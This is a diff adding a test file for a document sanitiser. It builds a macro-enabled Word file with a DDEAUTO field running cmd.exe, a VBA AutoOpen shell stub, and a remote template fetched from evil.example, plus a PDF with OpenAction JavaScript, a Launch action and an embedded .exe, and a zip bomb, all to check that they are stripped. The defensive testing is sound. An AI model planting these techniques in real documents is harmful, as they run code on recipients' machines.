@@ -1,0 +1,288 @@
+/**
+ * 無害化 engines (MAL-07, MAL-05) on fixtures built here: a docm with a VBA project, ActiveX, an
+ * embedded OLE object, a remote template, an external link part and DDE fields; a PDF with
+ * JavaScript, OpenAction, additional actions, a Launch action and an embedded file; a JPEG with GPS
+ * EXIF; Shift_JIS CSV; and the bad inputs (zip bomb, not a zip, truncated image, broken PDF).
+ */
+import { Readable } from 'node:stream';
+import { XMLValidator } from 'fast-xml-parser';
+import { PDFDocument, PDFName, PDFString } from 'pdf-lib';
+import sharp from 'sharp';
+import { describe, expect, it } from 'vitest';
+import yauzl from 'yauzl';
+import yazl from 'yazl';
+import { defaultSanitizers, pickSanitizer, type SanitizeOutcome, type SanitizeSource } from './index.js';
+import { ImageSanitizer } from './image.sanitizer.js';
+import { OoxmlSanitizer } from './ooxml.sanitizer.js';
+import { PdfSanitizer } from './pdf.sanitizer.js';
+import { SanitizeError } from './sanitizer.js';
+import { TextSanitizer } from './text.sanitizer.js';
+
+const MiB = 1024 * 1024;
+
+function sourceOf(name: string, data: Buffer, detectedMime: string | null): SanitizeSource {
+  return {
+    name,
+    size: data.length,
+    detectedMime,
+    open: () => Promise.resolve(Readable.from([data])),
+    openRange: (s, e) => Promise.resolve(Readable.from([data.subarray(s, e + 1)])),
+  };
+}
+
+async function run(engine: { sanitize: OoxmlSanitizer['sanitize'] }, src: SanitizeSource) {
+  let out = Buffer.alloc(0);
+  const outcome: SanitizeOutcome = await engine.sanitize(src, async (body) => {
+    const chunks: Buffer[] = [];
+    for await (const c of body) chunks.push(c as Buffer);
+    out = Buffer.concat(chunks);
+  });
+  return { outcome, out };
+}
+
+function zipOf(entries: Record<string, string | Buffer>): Promise<Buffer> {
+  const z = new yazl.ZipFile();
+  for (const [name, data] of Object.entries(entries)) z.addBuffer(Buffer.isBuffer(data) ? data : Buffer.from(data), name);
+  z.end();
+  return new Promise((resolve, reject) => {
+    const chunks: Buffer[] = [];
+    z.outputStream.on('data', (c: Buffer) => chunks.push(c));
+    z.outputStream.on('end', () => resolve(Buffer.concat(chunks)));
+    z.outputStream.on('error', reject);
+  });
+}
+
+function unzip(buf: Buffer): Promise<Map<string, string>> {
+  return new Promise((resolve, reject) => {
+    yauzl.fromBuffer(buf, { lazyEntries: true }, (err, zip) => {
+      if (err) return reject(err);
+      const out = new Map<string, string>();
+      zip.on('entry', (e: yauzl.Entry) => {
+        zip.openReadStream(e, (err2, s) => {
+          if (err2) return reject(err2);
+          const chunks: Buffer[] = [];
+          s.on('data', (c: Buffer) => chunks.push(c));
+          s.on('end', () => {
+            out.set(e.fileName, Buffer.concat(chunks).toString('utf8'));
+            zip.readEntry();
+          });
+        });
+      });
+      zip.on('end', () => resolve(out));
+      zip.readEntry();
+    });
+  });
+}
+
+const W =
+  'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:v="urn:schemas-microsoft-com:vml"';
+const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
+const MS_REL = 'http://schemas.microsoft.com/office/2006/relationships';
+
+/** A macro-enabled Word document with everything the sanitiser must take out. */
+function docm(): Promise<Buffer> {
+  return zipOf({
+    '[Content_Types].xml': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
+<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/><Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/><Override PartName="/word/activeX/activeX1.xml" ContentType="application/vnd.ms-office.activeX+xml"/><Override PartName="/word/embeddings/oleObject1.bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/></Types>`,
+    '_rels/.rels': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
+<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${REL}/officeDocument" Target="word/document.xml"/></Relationships>`,
+    'word/document.xml': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
+<w:document ${W}><w:body><w:p><w:r><w:t>市民課 報告書</w:t></w:r></w:p><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DD</w:instrText></w:r><w:r><w:instrText xml:space="preserve">EAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>結果</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p><w:p><w:fldSimple w:instr=" DDE Excel Sheet1 "><w:r><w:t>簡易</w:t></w:r></w:fldSimple></w:p><w:p><w:r><w:object><v:shape id="s1"/><o:OLEObject Type="Embed" ProgID="Package" ShapeID="s1" r:id="rId5"/></w:object></w:r><w:r><w:control r:id="rId6" w:name="CommandButton1"/></w:r></w:p><w:p><w:hyperlink r:id="rId7"><w:r><w:t>市のサイト</w:t></w:r></w:hyperlink></w:p></w:body></w:document>`,
+    'word/_rels/document.xml.rels': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
+<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${MS_REL}/vbaProject" Target="vbaProject.bin"/><Relationship Id="rId2" Type="${REL}/settings" Target="settings.xml"/><Relationship Id="rId5" Type="${REL}/oleObject" Target="embeddings/oleObject1.bin"/><Relationship Id="rId6" Type="${REL}/control" Target="activeX/activeX1.xml"/><Relationship Id="rId7" Type="${REL}/hyperlink" Target="https://www.city.example.lg.jp/" TargetMode="External"/><Relationship Id="rId8" Type="${REL}/hyperlink" Target="file:///C:/Windows/System32/calc.exe" TargetMode="External"/></Relationships>`,
+    'word/settings.xml': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
+<w:settings ${W}><w:attachedTemplate r:id="rId1"/><w:zoom w:percent="100"/></w:settings>`,
+    'word/_rels/settings.xml.rels': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
+<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${REL}/attachedTemplate" Target="https://evil.example/template.dotm" TargetMode="External"/></Relationships>`,
+    'word/vbaProject.bin': Buffer.from('VBA PROJECT Sub AutoOpen() Shell "calc" End Sub'),
+    'word/vbaData.xml': '<wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"/>',
+    'word/activeX/activeX1.xml':
+      '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}"/>',
+    'word/activeX/_rels/activeX1.xml.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${MS_REL}/activeXControlBinary" Target="activeX1.bin"/></Relationships>`,
+    'word/activeX/activeX1.bin': Buffer.from('ACTIVEX'),
+    'word/embeddings/oleObject1.bin': Buffer.from('OLE PACKAGE payload.exe'),
+    'word/media/image1.png': Buffer.from('PNGDATA'),
+  });
+}
+
+describe('OOXML 無害化 (MAL-07)', () => {
+  it('removes VBA, ActiveX, OLE objects, remote templates, unsafe links and DDE fields; docm becomes docx [MAL-07]', async () => {
+    const { outcome, out } = await run(
+      new OoxmlSanitizer(),
+      sourceOf('報告書.docm', await docm(), 'application/vnd.ms-word.document.macroenabled.12'),
+    );
+    expect(outcome).toMatchObject({
+      result: 'sanitised_with_loss',
+      name: '報告書.docx',
+      contentType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
+    });
+    if (outcome.result !== 'sanitised_with_loss') throw new Error('unexpected');
+    const kinds = new Set(outcome.removed.map((r) => r.kind));
+    for (const k of [
+      'vba_project',
+      'activex',
+      'ole_object',
+      'external_relationship',
+      'external_link',
+      'dde_field',
+      'macro_enabled_type',
+    ])
+      expect(kinds, k).toContain(k);
+    const parts = await unzip(out);
+    for (const gone of [
+      'word/vbaProject.bin',
+      'word/vbaData.xml',
+      'word/activeX/activeX1.xml',
+      'word/activeX/activeX1.bin',
+      'word/embeddings/oleObject1.bin',
+    ])
+      expect(parts.has(gone), gone).toBe(false);
+    expect(parts.get('word/media/image1.png')).toBe('PNGDATA');
+    const ct = parts.get('[Content_Types].xml')!;
+    expect(ct).not.toMatch(/macroEnabled|vbaProject|activeX|oleObject/);
+    expect(ct).toContain('wordprocessingml.document.main+xml');
+    const rels = parts.get('word/_rels/document.xml.rels')!;
+    expect(rels).not.toMatch(/vbaProject|oleObject|\/control"|calc\.exe/);
+    expect(rels).toContain('https://www.city.example.lg.jp/');
+    expect(parts.get('word/_rels/settings.xml.rels')).not.toContain('evil.example');
+    expect(parts.get('word/settings.xml')).not.toContain('attachedTemplate');
+    const doc = parts.get('word/document.xml')!;
+    expect(doc).not.toMatch(/DDE|OLEObject|w:control|fldSimple/);
+    // What the reader sees stays: the text, the field's shown result, the OLE object's picture.
+    for (const kept of ['市民課 報告書', '結果', '簡易', '<v:shape id="s1"/>', '市のサイト']) expect(doc).toContain(kept);
+    // The result opens cleanly: every XML part is well-formed.
+    for (const [name, xml] of parts) if (/\.(xml|rels)$/.test(name)) expect(XMLValidator.validate(xml), name).toBe(true);
+  });
+
+  it('leaves a clean docx as it was (sanitised, nothing removed) [MAL-07]', async () => {
+    const clean = await zipOf({
+      '[Content_Types].xml': `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`,
+      'word/document.xml': `<w:document ${W}><w:body><w:p><w:r><w:t>ok</w:t></w:r></w:p></w:body></w:document>`,
+    });
+    const { outcome, out } = await run(new OoxmlSanitizer(), sourceOf('a.docx', clean, 'application/zip'));
+    expect(outcome).toMatchObject({ result: 'sanitised', name: 'a.docx', removed: [] });
+    expect((await unzip(out)).get('word/document.xml')).toContain('<w:t>ok</w:t>');
+  });
+
+  it('refuses zip bombs and non-zips without inflating them [MAL-05]', async () => {
+    // One entry that expands ~1000×: refused from the central directory, before any inflation.
+    const bomb = await zipOf({ '[Content_Types].xml': '<Types/>', 'word/document.xml': Buffer.alloc(64 * MiB) });
+    expect(bomb.length).toBeLessThan(MiB);
+    await expect(run(new OoxmlSanitizer(), sourceOf('bomb.docx', bomb, 'application/zip'))).rejects.toMatchObject({
+      name: 'SanitizeError',
+      code: 'limit',
+    });
+    await expect(
+      run(new OoxmlSanitizer(), sourceOf('x.docx', Buffer.from('PK\u0003\u0004 not really a zip'), 'application/zip')),
+    ).rejects.toMatchObject({
+      code: 'malformed',
+    });
+    const noTypes = await zipOf({ 'word/document.xml': '<w:document/>' });
+    await expect(run(new OoxmlSanitizer(), sourceOf('y.docx', noTypes, 'application/zip'))).rejects.toMatchObject({
+      code: 'malformed',
+    });
+  });
+});
+
+describe('PDF 無害化 (MAL-07)', () => {
+  async function dangerousPdf(): Promise<Buffer> {
+    const doc = await PDFDocument.create();
+    const page = doc.addPage([200, 200]);
+    page.drawText('Kura test');
+    const ctx = doc.context;
+    const js = ctx.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of('app.alert("pwned")') });
+    doc.catalog.set(PDFName.of('OpenAction'), ctx.register(js));
+    const jsTree = ctx.obj({
+      Names: [PDFString.of('x'), ctx.register(ctx.obj({ S: 'JavaScript', JS: PDFString.of('this.exportDataObject()') }))],
+    });
+    doc.catalog.set(PDFName.of('Names'), ctx.obj({ JavaScript: ctx.register(jsTree) }));
+    page.node.set(PDFName.of('AA'), ctx.obj({ O: ctx.obj({ S: 'JavaScript', JS: PDFString.of('1') }) }));
+    const launch = ctx.obj({
+      Type: 'Annot',
+      Subtype: 'Link',
+      Rect: [0, 0, 50, 50],
+      A: ctx.obj({ S: 'Launch', F: PDFString.of('cmd.exe') }),
+    });
+    const web = ctx.obj({
+      Type: 'Annot',
+      Subtype: 'Link',
+      Rect: [50, 50, 90, 90],
+      A: ctx.obj({ S: 'URI', URI: PDFString.of('https://www.city.example.lg.jp/') }),
+    });
+    page.node.set(PDFName.of('Annots'), ctx.obj([ctx.register(launch), ctx.register(web)]));
+    await doc.attach(Buffer.from('MZ payload'), 'invoice.exe', { mimeType: 'application/octet-stream' });
+    return Buffer.from(await doc.save({ useObjectStreams: false }));
+  }
+
+  it('removes JavaScript, OpenAction, additional actions, Launch and embedded files; keeps pages and web links [MAL-07]', async () => {
+    const input = await dangerousPdf();
+    expect(input.toString('latin1')).toMatch(/\/JavaScript[\s\S]*\/OpenAction|\/OpenAction[\s\S]*\/JavaScript/);
+    const { outcome, out } = await run(new PdfSanitizer(), sourceOf('通知.pdf', input, 'application/pdf'));
+    expect(outcome).toMatchObject({ result: 'sanitised_with_loss', name: '通知.pdf', contentType: 'application/pdf' });
+    const text = out.toString('latin1');
+    for (const gone of ['/JavaScript', '/OpenAction', '/JS ', '/AA', '/Launch', '/EmbeddedFile', 'invoice.exe', 'cmd.exe'])
+      expect(text, gone).not.toContain(gone);
+    expect(text).toContain('https://www.city.example.lg.jp/');
+    const again = await PDFDocument.load(out);
+    expect(again.getPageCount()).toBe(1);
+    if (outcome.result !== 'sanitised_with_loss') throw new Error('unexpected');
+    expect(outcome.removed.map((r) => r.kind)).toEqual(
+      expect.arrayContaining(['open_action', 'javascript', 'additional_actions', 'action', 'embedded_file']),
+    );
+  });
+
+  it('fails clearly on a PDF whose structure is broken beyond reading [MAL-07]', async () => {
+    await expect(
+      run(new PdfSanitizer(), sourceOf('broken.pdf', Buffer.from('%PDF-1.7\n garbage without objects'), 'application/pdf')),
+    ).rejects.toBeInstanceOf(SanitizeError);
+  });
+});
+
+describe('image and text 無害化 (MAL-07)', () => {
+  it('re-encodes a JPEG without its GPS EXIF [MAL-07]', async () => {
+    const jpeg = await sharp({ create: { width: 32, height: 24, channels: 3, background: '#336699' } })
+      .jpeg()
+      .withExif({ IFD0: { Make: 'KuraCam', Software: 'test' }, IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '35/1 41/1 0/1' } })
+      .toBuffer();
+    expect((await sharp(jpeg).metadata()).exif).toBeDefined();
+    const { outcome, out } = await run(new ImageSanitizer(), sourceOf('現場写真.jpg', jpeg, 'image/jpeg'));
+    expect(outcome).toMatchObject({ result: 'sanitised', contentType: 'image/jpeg' });
+    const meta = await sharp(out).metadata();
+    expect(meta.exif).toBeUndefined();
+    expect([meta.width, meta.height, meta.format]).toEqual([32, 24, 'jpeg']);
+    expect(out.includes(Buffer.from('KuraCam'))).toBe(false);
+    if (outcome.result !== 'sanitised') throw new Error('unexpected');
+    expect(outcome.removed.map((r) => r.kind)).toContain('exif');
+  });
+
+  it('fails on a truncated image instead of passing it on [MAL-07]', async () => {
+    const png = await sharp({ create: { width: 64, height: 64, channels: 3, background: '#fff' } })
+      .png()
+      .toBuffer();
+    await expect(
+      run(new ImageSanitizer(), sourceOf('cut.png', png.subarray(0, png.length / 2), 'image/png')),
+    ).rejects.toMatchObject({ code: 'malformed' });
+  });
+
+  it('turns Shift_JIS CSV into UTF-8 with a BOM and drops control characters [MAL-07]', async () => {
+    const sjis = Buffer.from([0x8e, 0x73, 0x96, 0xaf, 0x2c, 0x31, 0x0d, 0x0a, 0x1b, 0x5b, 0x32, 0x4a]); // 市民,1\r\n ESC[2J
+    const { outcome, out } = await run(new TextSanitizer(), sourceOf('名簿.csv', sjis, null));
+    expect(outcome).toMatchObject({ result: 'sanitised', contentType: 'text/csv; charset=utf-8' });
+    expect(out.toString('utf8')).toBe('\ufeff市民,1\r\n[2J');
+  });
+});
+
+describe('engine choice (MAL-07)', () => {
+  it('picks by detected type and extension, and none for what no engine handles', () => {
+    const engines = defaultSanitizers();
+    expect(
+      pickSanitizer(engines, { name: 'a.docm', detectedMime: 'application/vnd.ms-word.document.macroenabled.12' })?.engine,
+    ).toBe('kura-ooxml');
+    expect(pickSanitizer(engines, { name: 'a.pdf', detectedMime: 'application/pdf' })?.engine).toBe('kura-pdf');
+    expect(pickSanitizer(engines, { name: 'a.jpg', detectedMime: 'image/jpeg' })?.engine).toMatch(/^sharp-/);
+    expect(pickSanitizer(engines, { name: 'a.csv', detectedMime: null })?.engine).toBe('kura-text');
+    expect(pickSanitizer(engines, { name: 'a.zip', detectedMime: 'application/zip' })).toBeNull();
+    expect(pickSanitizer(engines, { name: 'a.xlsb', detectedMime: 'application/zip' })).toBeNull();
+    expect(pickSanitizer(engines, { name: 'a.doc', detectedMime: 'application/x-cfb' })).toBeNull();
+  });
+});
